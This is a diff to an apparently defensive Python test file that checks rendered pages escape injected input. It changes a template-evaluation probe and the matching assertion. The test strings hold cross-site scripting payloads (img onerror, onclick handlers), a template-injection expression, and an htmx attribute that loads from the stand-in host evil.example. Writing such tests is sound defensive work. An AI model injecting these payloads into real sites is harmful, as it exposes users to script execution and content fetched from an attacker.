@@ -19,9 +19,7 @@ if TYPE_CHECKING:
     from tests.client import Client
     from tests.pages import Page
 
-HOSTILE = (
-    "</script></title></svg>\"'><img src=x onerror=alert(1)><a hx-get=//evil.example hx-trigger=load>{{7*7}}"
-)
+HOSTILE = "</script></title></svg>\"'><img src=x onerror=alert(1)><a hx-get=//evil.example hx-trigger=load>{{1234567*7}}"
 WORDS = {"en": HOSTILE, "zh": HOSTILE}
 NAME = "=<b onclick=alert(1)>\"'&"
 
@@ -31,7 +29,7 @@ def harmless(page: Page) -> Page:
     assert "<img src=x" not in page.text
     assert "<a hx-get=//evil" not in page.text
     assert "<b onclick" not in page.text
-    assert "49<" not in page.text
+    assert "8641969" not in page.text
     return page
 
 
